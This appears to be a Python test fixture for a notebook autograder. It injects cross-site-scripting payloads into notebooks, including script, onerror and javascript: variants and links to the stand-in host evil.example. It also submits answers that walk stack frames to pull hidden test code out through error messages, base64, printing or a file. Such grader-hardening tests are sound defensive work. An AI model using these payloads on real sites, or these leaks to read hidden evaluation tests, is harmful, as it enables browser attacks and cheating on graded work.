"""Animals that want to run in a browser, or to carry hidden tests out."""

from nbformat.v4 import new_code_cell, new_markdown_cell

from tests.grading.zoo.animals import FULL, Animal, answers, edited
from tests.grading.zoo.exercise import find

MARK = "zoo_script"
"""Stands in all scripts."""
MARKUP = f"""
Because <script>{MARK}(1)</script> and <img src=x onerror="{MARK}(2)">, and
<svg onload={MARK}(3)><a href="javascript:{MARK}(4)">this</a></svg>
<iframe srcdoc="<script>{MARK}(5)</script>">
</iframe> [that](javascript:{MARK}(6)) <style>@import url("//evil.example/{MARK}.css")</style>
<form action="//evil.example/{MARK}"><input name=x></form>
<meta http-equiv=refresh content="0;url=//evil.example/{MARK}">
<object data="data:text/html,<script>{MARK}(7)</script>"></object> <base href="//evil.example/{MARK}/">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={MARK}(8)&gt;">
<div style="background:url(//evil.example/{MARK})">x</div> <img src="//evil.example/{MARK}.png">
"""
DISPLAYS = f"""
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
markup = {MARKUP!r}
display(HTML(markup), Javascript("{MARK}(9)"), Markdown(markup), Latex(markup))
display({{"image/svg+xml": "<svg><script>{MARK}(10)</script></svg>"}}, raw=True)
display({{"application/vnd.zoo+html": markup, "text/html": ["<script>", "{MARK}(11)</script>"]}}, raw=True)
display({{"application/javascript": "{MARK}(12)", "image/png": '"><script>{MARK}(13)</script>'}}, raw=True)
print(markup)
print("\\x1b]8;;javascript:{MARK}(14)\\x1b\\\\link\\x1b]8;;\\x1b\\\\")
"""


def scripts(nb):
    find(nb, "explain").source = MARKUP
    nb.cells.insert(1, new_markdown_cell(MARKUP, id="mine"))
    nb.cells.insert(3, new_code_cell(DISPLAYS, id="shows"))
    nb.metadata["title"] = MARKUP
    nb.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "state": {MARK: f"</script><script>{MARK}(15)</script>"}
        }
    }
    nb.cells[1]["attachments"] = {"x.svg": {"image/svg+xml": f"<svg onload={MARK}(16)>"}}
    find(
        nb, "total"
    ).source += "\n\nclass Shown:\n    def _repr_html_(self):\n        return markup\n\nShown()"


SCRIPTED_ERROR = f"""
def total(x):
    raise type("<script>{MARK}(17)</script>", (Exception,), {{}})("<img src=x onerror={MARK}(18)>")
"""

SAYS_ALL = """
def history():
    import sys
    frame, texts = sys._getframe(1), []
    while frame is not None:
        texts += [str(value) for value in frame.f_globals.get("In", [])]
        texts += [str(value) for value in frame.f_locals.values() if isinstance(value, str)]
        frame = frame.f_back
    return "\\n".join(texts)
"""


def carries(expression):
    lines = ["def total(x):", "import base64", "text = history()", expression, "return -1.0"]
    return SAYS_ALL + "\n" + "\n    ".join(lines)


def prints_later(nb):
    nb.cells.append(new_code_cell("print('\\n'.join(In))\nIn[-3:]", id="at-the-end"))


TOTAL_LOST = {**FULL, "test-total": 0}
WHOLE_WORDS = (
    "words = sorted({word for word in text.replace('(', ' ').split() if word.startswith('hidden_')})"
)

ANIMALS = [
    Animal("scripts", edited(scripts)),
    Animal("scripts-in-an-error", answers(total=SCRIPTED_ERROR), TOTAL_LOST),
    Animal("history-printed", edited(prints_later)),
    Animal("tests-in-a-message", answers(total=carries("raise ValueError(text[-3000:])")), TOTAL_LOST),
    Animal(
        "tests-in-a-name", answers(total=carries("raise type(text[-300:], (Exception,), {})()")), TOTAL_LOST
    ),
    Animal("tests-backwards", answers(total=carries("raise ValueError(text[::-1][:400])")), TOTAL_LOST),
    Animal(
        "tests-encoded",
        answers(total=carries("raise ValueError(base64.b64encode(text[-300:].encode()).decode())")),
        TOTAL_LOST,
    ),
    Animal("tests-printed", answers(total=carries("print(text)")), TOTAL_LOST),
    Animal(
        "tests-in-words",
        answers(total=carries(f"{WHOLE_WORDS}\n    raise ValueError(' '.join(words))")),
        TOTAL_LOST,
    ),
    Animal(
        "tests-in-a-file",
        answers(total=carries("open('answer.txt', 'w').write(text)")),
        TOTAL_LOST,
    ),
]
